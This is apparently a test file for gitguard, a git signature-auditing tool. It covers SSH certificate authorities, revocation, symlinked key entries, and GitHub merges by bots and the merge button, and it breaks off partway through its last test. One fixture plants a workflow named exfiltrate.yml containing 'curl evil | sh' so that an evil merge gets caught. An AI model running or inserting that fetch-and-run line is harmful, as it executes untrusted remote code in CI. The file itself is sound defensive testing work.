// Fourth round of clean set-ups that must pass (see clean-workflows.test.ts, -2 and -3): each case
// here was a false failure (a rule failing where a security engineer sees nothing wrong), and each
// keeps a twin that still fails, so the fix cannot have switched the check off.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { makeGpg, type Gpg } from '../helpers/gpg.js';
import { fixtureKey } from '../helpers/gpg-key-fixture.js';
import { join } from 'node:path';
import { makeRepo, cleanupTemp, personEnv, type TestRepo } from '../helpers/repo.js';
import { sshSigningRepo, tryGit } from '../helpers/signing-repo.js';
import { gitSshVerifyArgs, makeSshKey, type SshTestKey } from '../helpers/ssh.js';
import { caLine, issueCert, type CertOptions } from '../helpers/ssh-cert.js';
import { runMain, parseJson, resultOf, stderrLines, type JsonReport } from '../helpers/cli.js';

afterAll(cleanupTemp);

const audit = async (r: TestRepo, rules: string[], extra: string[] = []) => {
  const res = await runMain(['audit', '-C', r.dir, '--format', 'json', '--no-cache', '-r', rules.join(','), ...extra], {
    env: r.env,
  });
  return { code: res.code, report: res.code === 2 ? undefined : parseJson(res), res };
};
/** Each rule's outcome; with CP4_DEBUG set, the failing and warning findings are printed. */
const outcomes = (report: JsonReport, rules: string[]) => {
  if (process.env.CP4_DEBUG)
    for (const x of report.results)
      if (x.outcome === 'fail' || x.outcome === 'warn')
        console.log(x.meta.id, JSON.stringify(x.findings.map((f) => f.message)));
  return Object.fromEntries(rules.map((id) => [id, resultOf(report, id).outcome]));
};

let tick = 0;
/** Writes `files`, stages everything and commits signed with `key` (a -cert.pub file signs with
 *  its certificate) as `email`, one minute after the last commit from 2024-01-01. */
function signedBy(r: TestRepo, key: SshTestKey, email: string, message: string, files: Record<string, string>): string {
  r.write(files);
  r.run(['add', '-A']);
  tick += 1;
  const date = new Date(Date.UTC(2024, 0, 1) + tick * 60_000).toISOString();
  r.run(['-c', 'gpg.format=ssh', 'commit', '-q', `-S${key.path}`, '-m', message], { env: personEnv(email, date) });
  return r.head();
}

describe('an organisation that signs with SSH certificates issued by its CA', () => {
  // allowed_signers trusts the CA (`*@example.com cert-authority ...`); every developer signs with
  // a short-lived certificate (user.signingkey = the -cert.pub file), renewed with a new key as
  // often as the CA likes. gitguard called every such signature E ("SSH certificates are not
  // supported"): commits-signed and signers-authorized failed on every commit.
  const RULES = [
    'commits-signed',
    'signatures-valid',
    'signers-authorized',
    'signer-matches-committer',
    'signing-keys-valid',
    'signature-algorithms-strong',
    'policy-changes-authorized',
    'protected-paths-changed-by-maintainers',
  ];
  const POLICY =
    'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\nmaintainers: [Alice]\n';
  const YEAR = '20231201000000Z:20250101000000Z';
  let dir: string;
  let ca: SshTestKey;
  let rogueCa: SshTestKey;
  let aliceKey: SshTestKey;
  let bobKey: SshTestKey;
  const cert = (user: SshTestKey, principals: string[], opts: Partial<CertOptions> = {}, by = ca): SshTestKey =>
    issueCert(by, user, dir, { principals, validity: YEAR, ...opts });

  beforeAll(() => {
    const keysRepo = makeRepo();
    dir = keysRepo.home;
    ca = makeSshKey(dir, 'ed25519', 'example-ca');
    rogueCa = makeSshKey(dir, 'ed25519', 'rogue-ca');
    aliceKey = makeSshKey(dir, 'ed25519', 'alice');
    bobKey = makeSshKey(dir, 'ecdsa-256', 'bob');
  });

  /** The policy commit (Alice's certificate), then Bob's work with his. */
  const orgRepo = (policy = POLICY): TestRepo => {
    const r = makeRepo();
    signedBy(r, cert(aliceKey, ['alice@example.com']), 'alice@example.com', 'policy: the CA signs for example.com', {
      '.gitguard/policy.yml': policy,
      '.gitguard/allowed_signers': `${caLine('*@example.com', ca)}\n`,
    });
    signedBy(r, cert(bobKey, ['bob@example.com']), 'bob@example.com', 'feature', { 'src/a.txt': 'a\n' });
    return r;
  };

  test('certificates renewed with new keys, a maintainer changing the policy with hers: every rule passes', async () => {
    const r = orgRepo();
    // Alice renews with a fresh key and certificate, then adds Carol to the policy.
    const renewed = makeSshKey(dir, 'ed25519', `alice-renewed`);
    signedBy(r, cert(renewed, ['alice@example.com']), 'alice@example.com', 'add carol', {
      '.gitguard/policy.yml': POLICY.replace(
        'maintainers:',
        '  - name: Carol\n    emails: [carol@example.com]\nmaintainers:',
      ),
    });
    signedBy(r, cert(bobKey, ['bob@example.com', 'bob'], { serial: 99 }), 'bob@example.com', 'more', {
      'src/b.txt': 'b\n',
    });
    // Alice tags the release with her certificate too.
    const tagCert = cert(aliceKey, ['alice@example.com']);
    r.run(['-c', 'gpg.format=ssh', '-c', `user.signingkey=${tagCert.path}`, 'tag', '-s', '-m', 'v1', 'v1'], {
      env: { GIT_COMMITTER_EMAIL: 'alice@example.com', GIT_COMMITTER_DATE: '2024-06-01T00:00:00Z' },
    });
    const rules = [...RULES, 'tags-signed'];
    const { code, report } = await audit(r, rules);
    expect(outcomes(report!, rules)).toEqual(Object.fromEntries(rules.map((id) => [id, 'pass'])));
    expect(code).toBe(0);
    const verify = await runMain(['verify', '-C', r.dir, '--no-cache', '--format', 'json'], { env: r.env });
    const rows = (
      JSON.parse(verify.stdout) as { commits: Array<{ status: string; letter: string; certAuthority: string | null }> }
    ).commits;
    expect(rows.map((x) => [x.letter, x.status, x.certAuthority])).toEqual(
      Array(4).fill(['G', 'authorized', ca.fingerprint]),
    );
    expect(verify.code).toBe(0);
    // Without a policy, the same CA line in the user's own allowed-signers file (--allowed-signers)
    // vouches for each certificate's principal, and for nobody else.
    const own = join(dir, 'own_allowed_signers');
    writeFileSync(own, `${caLine('*@example.com', ca)}\n`);
    const bare = makeRepo();
    signedBy(bare, cert(aliceKey, ['alice@example.com']), 'alice@example.com', 'alice', { 'a.txt': 'a\n' });
    signedBy(bare, cert(bobKey, ['bob@example.com']), 'alice@example.com', 'bob as alice', { 'c.txt': 'c\n' });
    signedBy(bare, cert(bobKey, ['*@example.com']), 'alice@example.com', 'pattern', { 'd.txt': 'd\n' });
    const plain = await runMain(
      ['verify', '-C', bare.dir, '--no-cache', '--format', 'json', '--allowed-signers', own],
      { env: bare.env },
    );
    const statuses = (JSON.parse(plain.stdout) as { commits: Array<{ status: string }> }).commits.map((x) => x.status);
    expect(statuses).toEqual(['authorized', 'impersonation', 'impersonation']);
    expect(plain.code).toBe(1);
  });

  test("gitguard init in such a repository proposes the CA (cert-authority, for each signer's e-mails), and the audit then passes", async () => {
    // It proposed the one certificate the user signs with as a plain key (trusted until it expires),
    // and could not place the others' certificates at all.
    const r = makeRepo();
    const trusted = join(r.home, 'allowed_signers');
    writeFileSync(trusted, `${caLine('*@example.com', ca)}\n`);
    r.run(['config', '--global', 'gpg.ssh.allowedSignersFile', trusted]);
    r.run(['config', '--global', 'user.email', 'alice@example.com']);
    r.run(['config', '--global', 'user.name', 'Alice']);
    r.run(['config', 'gpg.format', 'ssh']);
    r.run(['config', 'user.signingkey', cert(aliceKey, ['alice@example.com']).path]);
    signedBy(r, cert(aliceKey, ['alice@example.com']), 'alice@example.com', 'start', { 'a.txt': 'a\n' });
    signedBy(r, cert(bobKey, ['bob@example.com']), 'bob@example.com', 'bob', { 'b.txt': 'b\n' });
    const init = await runMain(['init', '-C', r.dir], { env: r.env });
    expect(init.code).toBe(0);
    expect(init.stdout).toContain(`your SSH signing key is a certificate issued by the CA ${ca.fingerprint}`);
    const lines = readFileSync(join(r.dir, '.gitguard', 'allowed_signers'), 'utf8')
      .split('\n')
      .filter((l) => l && !l.startsWith('#'));
    const caText = ca.pub.split(' ').slice(0, 2).join(' ');
    expect(lines.sort()).toEqual([
      `alice@example.com cert-authority,namespaces="git" ${caText}`,
      `bob@example.com cert-authority,namespaces="git" ${caText}`,
    ]);
    signedBy(r, cert(aliceKey, ['alice@example.com']), 'alice@example.com', 'Add gitguard trust policy', {});
    signedBy(r, cert(bobKey, ['bob@example.com']), 'bob@example.com', 'more', { 'c.txt': 'c\n' });
    const rules = ['commits-signed', 'signers-authorized', 'signer-matches-committer', 'policy-changes-authorized'];
    const ok = await audit(r, rules);
    expect(outcomes(ok.report!, rules)).toEqual(Object.fromEntries(rules.map((id) => [id, 'pass'])));
    expect(ok.code).toBe(0);
    // The CA speaks for example.com in the user's own file, but the policy lets it speak for its signers only.
    signedBy(r, cert(bobKey, ['mallory@example.com']), 'mallory@example.com', 'mallory', { 'd.txt': 'd\n' });
    const bad = await audit(r, ['signers-authorized']);
    expect(outcomes(bad.report!, ['signers-authorized'])).toEqual({ 'signers-authorized': 'fail' });
  });

  test('twin: a certificate for a non-maintainer may not change the policy', async () => {
    const r = orgRepo();
    signedBy(r, cert(bobKey, ['bob@example.com']), 'bob@example.com', 'bob makes himself maintainer', {
      '.gitguard/policy.yml': POLICY.replace('maintainers: [Alice]', 'maintainers: [Alice, Bob]'),
    });
    const { code, report } = await audit(r, ['policy-changes-authorized']);
    expect(resultOf(report!, 'policy-changes-authorized').outcome).toBe('fail');
    expect(code).toBe(1);
  });

  test('twins: a certificate speaks only for its own principal, by a trusted CA, valid at the commit, as a name', async () => {
    const rules = ['signers-authorized', 'signer-matches-committer'];
    const failing = async (key: SshTestKey, email: string): Promise<Record<string, string>> => {
      const r = orgRepo();
      signedBy(r, key, email, 'suspicious', { 'src/c.txt': 'c\n' });
      const { code, report } = await audit(r, rules);
      expect(code).toBe(1);
      return outcomes(report!, rules);
    };
    // Bob's certificate on a commit made as Alice: an impersonation.
    expect(await failing(cert(bobKey, ['bob@example.com']), 'alice@example.com')).toMatchObject({
      'signer-matches-committer': 'fail',
    });
    // A CA nobody trusts issues a certificate for Alice.
    expect(await failing(cert(bobKey, ['alice@example.com'], {}, rogueCa), 'alice@example.com')).toMatchObject({
      'signers-authorized': 'fail',
    });
    // Expired before the commit (and a host certificate).
    const expired = cert(aliceKey, ['alice@example.com'], { validity: '20230101000000Z:20231201000000Z' });
    expect(await failing(expired, 'alice@example.com')).toMatchObject({ 'signers-authorized': 'fail' });
    const host = cert(aliceKey, ['alice@example.com'], { host: true });
    expect(await failing(host, 'alice@example.com')).toMatchObject({ 'signers-authorized': 'fail' });
    // A certificate whose principal is the pattern "*@example.com": git calls it good (the line's
    // pattern matches it), but a principal is a name: it speaks for nobody.
    expect(await failing(cert(bobKey, ['*@example.com']), 'alice@example.com')).toMatchObject({
      'signers-authorized': 'fail',
    });
  });

  test('twin: revoking the CA in revoked_keys voids every certificate it issued', async () => {
    const r = orgRepo();
    const revoked = `${POLICY}revoked_keys:\n  - key: "${ca.fingerprint}"\n    reason: CA key leaked\n`;
    signedBy(r, cert(aliceKey, ['alice@example.com']), 'alice@example.com', 'revoke the CA', {
      '.gitguard/policy.yml': revoked,
    });
    const { code, report } = await audit(r, ['signing-keys-valid']);
    expect(resultOf(report!, 'signing-keys-valid').outcome).toBe('fail');
    expect(JSON.stringify(resultOf(report!, 'signing-keys-valid'))).toContain(`key ${ca.fingerprint} was revoked`);
    expect(code).toBe(1);
  });

  test('twin: the CA in a --revoked-keys file (git: gpg.ssh.revocationFile) voids its certificates, as ssh-keygen does', async () => {
    const r = makeRepo();
    const oid = signedBy(r, cert(aliceKey, ['alice@example.com']), 'alice@example.com', 'work', { 'a.txt': 'a\n' });
    const signers = join(dir, 'ca_allowed_signers');
    writeFileSync(signers, `${caLine('*@example.com', ca)}\n`);
    const revoked = join(dir, 'revoked_ca');
    writeFileSync(revoked, `${ca.pub}\n`);
    expect(r.run([...gitSshVerifyArgs(signers), 'log', '-1', '--format=%G?', oid])).toBe('G');
    expect(r.run([...gitSshVerifyArgs(signers, revoked), 'log', '-1', '--format=%G?', oid])).toBe('B');
    const res = await runMain(
      [
        'verify',
        '-C',
        r.dir,
        '--no-cache',
        '--format',
        'json',
        '--allowed-signers',
        signers,
        '--revoked-keys',
        revoked,
      ],
      { env: r.env },
    );
    const rows = (JSON.parse(res.stdout) as { commits: Array<{ letter: string; status: string; detail: string }> })
      .commits;
    expect(rows.map((x) => [x.letter, x.status])).toEqual([['R', 'key-invalid']]);
    expect(rows[0]!.detail).toContain(`key ${ca.fingerprint} was revoked`);
    expect(res.code).toBe(1);
  });

  test('a signer cannot name the CA as their own key: the policy says what to do instead', async () => {
    const r = orgRepo(
      POLICY.replace('emails: [alice@example.com]', `emails: [alice@example.com]\n    ssh: ["${ca.fingerprint}"]`),
    );
    const { code, res } = await audit(r, ['signers-authorized']);
    expect(code).toBe(2);
    expect(stderrLines(res).join('\n')).toContain(`key ${ca.fingerprint} is a cert-authority in allowed_signers`);
  });
});

describe('keys/ entries that are not files: never read, never trusted, and said so', () => {
  // A key file committed as a symbolic link (to a shared folder of keys), a submodule or a folder
  // was skipped without a word: its owner's commits then failed as signed by an unknown key, or
  // nothing failed and nobody knew the file was never read.
  let alice: SshTestKey;
  beforeAll(() => {
    alice = makeSshKey(makeRepo().home, 'ed25519', 'alice');
  });
  const rules = ['signers-authorized'];

  test('a link, a submodule and a folder in keys/ warn, naming each path; the commits stay authorized', async () => {
    const r = sshSigningRepo(alice);
    r.write({ 'shared/alice.asc': 'not read\n', '.gitguard/keys/sub/bob.asc': 'not read\n' });
    symlinkSync('../../shared/alice.asc', join(r.dir, '.gitguard/keys/alice.asc'));
    r.run(['add', '-A']);
    r.run(['update-index', '--add', '--cacheinfo', `160000,${r.head()},.gitguard/keys/vendored`]);
    r.run(['commit', '-q', '-m', 'keys: linked, vendored, nested']);
    r.run(['commit', '-q', '--allow-empty', '-m', 'work']); // add -A would drop the gitlink
    const { code, report } = await audit(r, rules);
    const result = resultOf(report!, 'signers-authorized');
    expect(result.outcome).toBe('warn');
    expect(result.findings.map((f) => f.message)).toEqual([
      '.gitguard/keys/alice.asc is a symbolic link: skipped, no key in it is trusted (commit the key file itself in .gitguard/keys/)',
      '.gitguard/keys/sub is a folder: skipped, no key in it is trusted (commit the key file itself in .gitguard/keys/)',
      '.gitguard/keys/vendored is a submodule: skipped, no key in it is trusted (commit the key file itself in .gitguard/keys/)',
    ]);
    expect(code).toBe(0);
  });

  test('twin: keys/ itself a link warns and trusts nothing in it; a commit by an unknown key still fails', async () => {
    const r = sshSigningRepo(alice);
    r.write({ 'shared/keep': '\n' });
    symlinkSync('../shared', join(r.dir, '.gitguard/keys'));
    r.run(['add', '-A']);
    r.run(['commit', '-q', '-m', 'keys: a link']);
    const mallory = makeSshKey(r.home, 'ed25519', 'mallory');
    r.commit('by mallory', {}, [`-S${mallory.path}`]);
    const { code, report } = await audit(r, rules);
    const result = resultOf(report!, 'signers-authorized');
    expect(result.outcome).toBe('fail');
    expect(result.findings[0]!.message).toBe(
      '.gitguard/keys is a symbolic link, not a folder: no key in it is read or trusted (make .gitguard/keys/ a folder of key files)',
    );
    expect(result.findings.slice(1).map((f) => f.message)).toEqual([expect.stringContaining('"by mallory"')]);
    expect(code).toBe(1);
  });

  test('allowed_signers committed as a link is refused with a next step (its blob is a path, not the file)', async () => {
    const r = sshSigningRepo(alice);
    r.write({ 'shared/allowed_signers': `alice@example.com ${alice.pub}\n` });
    rmSync(join(r.dir, '.gitguard/allowed_signers'));
    symlinkSync('../shared/allowed_signers', join(r.dir, '.gitguard/allowed_signers'));
    r.run(['add', '-A']);
    r.run(['commit', '-q', '-m', 'allowed_signers: a link']);
    const { code, res } = await audit(r, rules);
    expect(code).toBe(2);
    expect(stderrLines(res).join('\n')).toContain(
      'allowed_signers is a symbolic link, not a file: gitguard follows no links; commit the file itself',
    );
  });
});

describe('real-world shapes: imports, bots, GitHub merges of workflow changes', () => {
  // People sign with SSH keys; GitHub's web-flow key is a stand-in with its user ID, named by the
  // policy's forges: as the README's recipe says.
  const at = (iso: string): number => Date.parse(iso) / 1000;
  // The release workflow tags as GitHub Actions' bot, signing with the release key the policy names.
  const BOT = '41898282+github-actions[bot]@users.noreply.github.com';
  let gpg: Gpg;
  let webFlow: string;
  let alice: SshTestKey;
  let bob: SshTestKey;
  let bot: SshTestKey;
  const POLICY = (extra = ''): string =>
    'version: 1\nsigners:\n  - name: Alice\n    emails: [alice@example.com]\n  - name: Bob\n    emails: [bob@example.com]\n' +
    `  - name: release-bot\n    emails: ["${BOT}"]\nmaintainers: [Alice]\n` +
    `forges:\n  - name: GitHub\n    committer: noreply@github.com\n    openpgp: [${webFlow}]\n${extra}`;
  const RULES = [
    'commits-signed',
    'signatures-valid',
    'signers-authorized',
    'signer-matches-committer',
    'policy-changes-authorized',
    'protected-paths-changed-by-maintainers',
    'commit-dates-plausible',
    'trust-root-in-history',
    'tags-signed',
  ];

  beforeAll(() => {
    gpg = makeGpg(mkdtempSync(join(tmpdir(), 'gg-cw4-')));
    webFlow = fixtureKey(gpg, {
      name: 'web-flow-2024-01-01',
      uid: 'GitHub <noreply@github.com>',
      algo: 'rsa2048',
      at: at('2024-01-01T00:00:00Z'),
    });
    const home = makeRepo().home;
    alice = makeSshKey(home, 'ed25519', 'alice');
    bob = makeSshKey(home, 'ed25519', 'bob');
    bot = makeSshKey(home, 'ed25519', 'release-bot');
  });
  afterAll(() => gpg.kill());

  /** git signing with `who`'s key as `email` (author and committer), at `iso`. */
  const as = (who: SshTestKey, email: string, iso: string) => ({
    args: ['-c', 'gpg.format=ssh', '-c', `user.signingkey=${who.path}`],
    env: personEnv(email, iso),
  });
  /** A commit GitHub makes (committer GitHub, web-flow signed), authored by `author`. */
  const github = (r: TestRepo, iso: string, args: string[], author: string): string => {
    r.run(
      ['-c', 'gpg.format=openpgp', '-c', `gpg.program=${gpg.wrapper}`, '-c', `user.signingkey=${webFlow}`, ...args],
      {
        env: {
          GNUPGHOME: gpg.home,
          GG_GPG_ARGS: `--faked-system-time ${at(iso)}!`,
          GIT_COMMITTER_NAME: 'GitHub',
          GIT_COMMITTER_EMAIL: 'noreply@github.com',
          GIT_COMMITTER_DATE: iso,
          GIT_AUTHOR_DATE: iso,
          GIT_AUTHOR_NAME: author.split('@')[0]!,
          GIT_AUTHOR_EMAIL: author,
        },
      },
    );
    return r.head();
  };
  /** The policy commit (Alice's), with allowed_signers and web-flow's key. */
  const withPolicy = (r: TestRepo, iso: string, extra = ''): string => {
    r.write({
      '.gitguard/policy.yml': POLICY(extra),
      '.gitguard/allowed_signers': `alice@example.com ${alice.pub}\nbob@example.com ${bob.pub}\n"${BOT}" ${bot.pub}\n`,
    });
    mkdirSync(join(r.dir, '.gitguard', 'keys'), { recursive: true });
    writeFileSync(join(r.dir, '.gitguard', 'keys', 'web-flow.gpg'), gpg.exportPublic(webFlow));
    r.run(['add', '-A']);
    const a = as(alice, 'alice@example.com', iso);
    r.run([...a.args, 'commit', '-q', '-S', '-m', 'policy'], { env: a.env });
    return r.head();
  };
  const signed = (
    r: TestRepo,
    who: SshTestKey,
    email: string,
    iso: string,
    msg: string,
    files: Record<string, string>,
  ) => {
    r.write(files);
    r.run(['add', '-A']);
    const a = as(who, email, iso);
    r.run([...a.args, 'commit', '-q', '-S', '-m', msg], { env: a.env });
    return r.head();
  };

  test('history imported with git fast-import (unsigned, 2009-2015), the policy after it: every rule passes', async () => {
    const r = makeRepo();
    const lines: string[] = [];
    ['2009-03-01', '2012-07-15', '2015-11-30'].forEach((day, i) => {
      const t = at(`${day}T12:00:00Z`);
      const msg = `svn r${100 + i}\n\ngit-svn-id: https://svn.example.com/repo/trunk@${100 + i} 1b2c3d4e-0000-0000-0000-000000000000\n`;
      lines.push(
        'commit refs/heads/main',
        `mark :${i + 1}`,
        `author old-timer <old-timer@1b2c3d4e-0000-0000-0000-000000000000> ${t} +0000`,
        `committer old-timer <old-timer@1b2c3d4e-0000-0000-0000-000000000000> ${t} +0000`,
        `data ${Buffer.byteLength(msg)}`,
        msg,
        ...(i ? [`from :${i}`] : []),
        `M 644 inline src/file${i}.c`,
        'data 2',
        `${i}`,
        '',
      );
    });
    r.run(['fast-import', '--quiet'], { input: lines.join('\n') + '\n' });
    r.run(['checkout', '-q', '-f', 'main']);
    withPolicy(r, '2024-02-01T10:00:00Z');
    signed(r, bob, 'bob@example.com', '2024-02-02T10:00:00Z', 'work', { 'src/new.c': 'x\n' });
    const { code, report } = await audit(r, RULES);
    expect(outcomes(report!, RULES)).toMatchObject({
      'commits-signed': 'pass',
      'signers-authorized': 'pass',
      'protected-paths-changed-by-maintainers': 'pass',
      'commit-dates-plausible': 'pass',
    });
    expect(code).toBe(0);
  });

  test('a release tag signed with the release key by github-actions[bot] (the tagger); dependabot via web-flow: pass', async () => {
    const r = makeRepo();
    withPolicy(r, '2024-02-01T10:00:00Z');
    signed(r, bob, 'bob@example.com', '2024-02-02T10:00:00Z', 'work', { 'src/a.c': 'a\n' });
    r.write({ 'package.json': '{"dependencies":{"lodash":"4.17.21"}}\n' });
    r.run(['add', '-A']);
    github(
      r,
      '2024-02-03T10:00:00Z',
      ['commit', '-q', '-S', '-m', 'Bump lodash from 4.17.20 to 4.17.21'],
      '49699333+dependabot[bot]@users.noreply.github.com',
    );
    const b = as(bot, BOT, '2024-02-04T10:00:00Z');
    r.run([...b.args, 'tag', '-s', '-m', 'Release 1.0.0', 'v1.0.0'], { env: b.env });
    const { code, report } = await audit(r, RULES);
    expect(outcomes(report!, RULES)).toEqual(Object.fromEntries(RULES.map((id) => [id, 'pass'])));
    expect(code).toBe(0);
  });

  test('a workflow change signed by a maintainer on a branch, merged by the GitHub merge button: pass', async () => {
    const r = makeRepo();
    withPolicy(r, '2024-02-01T10:00:00Z');
    signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'ci', { '.github/workflows/ci.yml': 'on: push\n' });
    r.run(['checkout', '-q', '-b', 'ci-update']);
    signed(r, alice, 'alice@example.com', '2024-02-03T10:00:00Z', 'ci: add lint job', {
      '.github/workflows/lint.yml': 'on: pull_request\n',
    });
    r.run(['checkout', '-q', 'main']);
    // Meanwhile another maintainer-signed workflow change lands on main: the merge combines both.
    signed(r, alice, 'alice@example.com', '2024-02-04T10:00:00Z', 'ci: pin actions', {
      '.github/workflows/ci.yml': 'on: [push]\n',
    });
    github(
      r,
      '2024-02-05T10:00:00Z',
      ['merge', '-q', '--no-ff', '-S', '-m', 'Merge pull request #7 from example/ci-update', 'ci-update'],
      'alice@example.com',
    );
    expect(r.run(['rev-list', '--parents', '-1', 'HEAD']).split(' ')).toHaveLength(3);
    const { code, report } = await audit(r, RULES);
    expect(outcomes(report!, RULES)).toEqual({
      ...Object.fromEntries(RULES.map((id) => [id, 'pass'])),
      'tags-signed': 'not-applicable',
    });
    expect(code).toBe(0);
  });

  test('twins: a merge that adds to a workflow what neither side had, or resolves a workflow conflict by hand, still fails', async () => {
    const rules = ['protected-paths-changed-by-maintainers'];
    const setUp = (): TestRepo => {
      const r = makeRepo();
      withPolicy(r, '2024-02-01T10:00:00Z');
      signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'ci', { '.github/workflows/ci.yml': 'on: push\n' });
      r.run(['checkout', '-q', '-b', 'topic']);
      signed(r, alice, 'alice@example.com', '2024-02-03T10:00:00Z', 'ci: topic', {
        '.github/workflows/ci.yml': 'on: pull_request\n',
      });
      r.run(['checkout', '-q', 'main']);
      signed(r, bob, 'bob@example.com', '2024-02-04T10:00:00Z', 'docs', { 'README.md': 'docs\n' });
      return r;
    };
    // An evil merge: the merge commit itself adds a workflow.
    const evil = setUp();
    evil.run(['merge', '-q', '--no-ff', '--no-commit', 'topic']);
    evil.write({ '.github/workflows/exfiltrate.yml': 'on: push\nrun: curl evil | sh\n' });
    evil.run(['add', '-A']);
    github(evil, '2024-02-05T10:00:00Z', ['commit', '-q', '-S', '-m', 'Merge pull request #8'], 'alice@example.com');
    const a = await audit(evil, rules);
    expect(outcomes(a.report!, rules)).toEqual({ 'protected-paths-changed-by-maintainers': 'fail' });
    expect(a.code).toBe(1);
    // Both sides changed ci.yml: whatever the merge holds there was written by whoever resolved it.
    const conflict = setUp();
    signed(conflict, alice, 'alice@example.com', '2024-02-04T11:00:00Z', 'ci: main', {
      '.github/workflows/ci.yml': 'on: [push]\n',
    });
    expect(tryGit(conflict, ['merge', '-q', '--no-ff', '--no-commit', 'topic']).code).toBe(1);
    conflict.write({ '.github/workflows/ci.yml': 'on: [push, pull_request]\n' });
    conflict.run(['add', '-A']);
    github(
      conflict,
      '2024-02-05T10:00:00Z',
      ['commit', '-q', '-S', '-m', 'Merge pull request #9'],
      'alice@example.com',
    );
    const c = await audit(conflict, rules);
    expect(outcomes(c.report!, rules)).toEqual({ 'protected-paths-changed-by-maintainers': 'fail' });
    expect(c.code).toBe(1);
  });

  test('two maintainer-signed policy changes on two branches, merged by the GitHub merge button: pass; twin: a merge that edits the policy fails', async () => {
    const setUp = (): TestRepo => {
      const r = makeRepo();
      withPolicy(r, '2024-02-01T10:00:00Z');
      r.run(['checkout', '-q', '-b', 'add-carol']);
      signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'policy: carol signs', {
        '.gitguard/policy.yml': POLICY().replace(
          'maintainers: [Alice]',
          '  - name: Carol\n    emails: [carol@example.com]\nmaintainers: [Alice]',
        ),
      });
      r.run(['checkout', '-q', 'main']);
      signed(r, alice, 'alice@example.com', '2024-02-03T10:00:00Z', 'policy: severity', {
        '.gitguard/policy.yml': `${POLICY()}severity:\n  commit-dates-plausible: low\n`,
      });
      return r;
    };
    const rules = ['policy-changes-authorized', 'protected-paths-changed-by-maintainers', 'signers-authorized'];
    const r = setUp();
    github(
      r,
      '2024-02-04T10:00:00Z',
      ['merge', '-q', '--no-ff', '-S', '-m', 'Merge pull request #3 from example/add-carol', 'add-carol'],
      'alice@example.com',
    );
    expect(r.run(['show', 'HEAD:.gitguard/policy.yml'])).toContain('carol@example.com');
    expect(r.run(['show', 'HEAD:.gitguard/policy.yml'])).toContain('commit-dates-plausible: low');
    const ok = await audit(r, rules);
    expect(outcomes(ok.report!, rules)).toEqual(Object.fromEntries(rules.map((id) => [id, 'pass'])));
    expect(ok.code).toBe(0);

    const evil = setUp();
    evil.run(['merge', '-q', '--no-ff', '--no-commit', 'add-carol']);
    evil.write({
      '.gitguard/policy.yml': readFileSync(join(evil.dir, '.gitguard/policy.yml'), 'utf8').replace(
        'maintainers: [Alice]',
        'maintainers: [Alice, Bob]',
      ),
    });
    evil.run(['add', '-A']);
    github(evil, '2024-02-04T10:00:00Z', ['commit', '-q', '-S', '-m', 'Merge pull request #4'], 'alice@example.com');
    const bad = await audit(evil, rules);
    expect(outcomes(bad.report!, rules)).toMatchObject({ 'policy-changes-authorized': 'fail' });
    expect(bad.code).toBe(1);
  });

  test('Dependabot bumping an action in a workflow fails until a maintainer re-signs it (the documented route), then passes', async () => {
    const r = makeRepo();
    withPolicy(r, '2024-02-01T10:00:00Z');
    signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'ci', {
      '.github/workflows/ci.yml': 'steps:\n  - uses: actions/checkout@v3\n',
    });
    r.run(['checkout', '-q', '-b', 'dependabot/github_actions/actions/checkout-4']);
    r.write({ '.github/workflows/ci.yml': 'steps:\n  - uses: actions/checkout@v4\n' });
    r.run(['add', '-A']);
    const dependabot = '49699333+dependabot[bot]@users.noreply.github.com';
    github(r, '2024-02-03T10:00:00Z', ['commit', '-q', '-S', '-m', 'Bump actions/checkout from 3 to 4'], dependabot);
    const rules = ['protected-paths-changed-by-maintainers', 'signers-authorized'];
    const before = await audit(r, rules);
    expect(outcomes(before.report!, rules)).toEqual({
      'protected-paths-changed-by-maintainers': 'fail',
      'signers-authorized': 'pass',
    });
    // The maintainer reviews it and signs it as hers; the merge button then merges it.
    const a = as(alice, 'alice@example.com', '2024-02-04T10:00:00Z');
    r.run([...a.args, 'commit', '-q', '--amend', '--no-edit', '-S'], { env: a.env });
    r.run(['checkout', '-q', 'main']);
    github(
      r,
      '2024-02-05T10:00:00Z',
      ['merge', '-q', '--no-ff', '-S', '-m', 'Merge pull request #12', 'dependabot/github_actions/actions/checkout-4'],
      'alice@example.com',
    );
    const after = await audit(r, rules);
    expect(outcomes(after.report!, rules)).toEqual({
      'protected-paths-changed-by-maintainers': 'pass',
      'signers-authorized': 'pass',
    });
    expect(after.code).toBe(0);
  });

  test('a monorepo with CODEOWNERS: a maintainer edits .github/CODEOWNERS, a developer a package; pass; twin: a developer editing CODEOWNERS fails', async () => {
    const r = makeRepo();
    withPolicy(r, '2024-02-01T10:00:00Z');
    signed(r, alice, 'alice@example.com', '2024-02-02T10:00:00Z', 'owners', {
      '.github/CODEOWNERS': '/packages/web/ @example/web\n/packages/api/ @example/api\n',
      'packages/web/package.json': '{}\n',
      'packages/api/package.json': '{}\n',
    });
    signed(r, bob, 'bob@example.com', '2024-02-03T10:00:00Z', 'web: feature', {
      'packages/web/src/index.ts': 'export {};\n',
      // A nested CODEOWNERS is no CODEOWNERS to GitHub (only /, .github/ and docs/ are read).
      'packages/web/CODEOWNERS': '* @bob\n',
    });
    const rules = ['protected-paths-changed-by-maintainers', 'signers-authorized'];
    const ok = await audit(r, rules);
    expect(outcomes(ok.report!, rules)).toEqual({
      'protected-paths-changed-by-maintainers': 'pass',
      'signers-authorized': 'pass',
    });
    expect(ok.code).toBe(0);
    signed(r, bob, 'bob@example.com', '2024-02-04T10:00:00Z', 'owners: me', { '.github/CODEOWNERS': '* @bob\n' });
    const bad = await audit(r, rules);
    expect(outcomes(bad.report!, rules)).toEqual({
      'protected-paths-changed-by-maintainers': 'fail',
      'signers-authorized': 'pass',
    });
    expect(bad.code).toBe(1);
  });

  test('twin: a web-flow commit authored as a maintainer that changes a workflow (squash, rebase-merge or web editor) still fails', async () => {
    // GitHub copies the author of a rebase-merged commit from the branch, where anybody can write
    // any author: the author of a commit GitHub signs is not authenticated, so it never stands for
    // a maintainer's signature.
    const r = makeRepo();
    withPolicy(r, '2024-02-01T10:00:00Z');
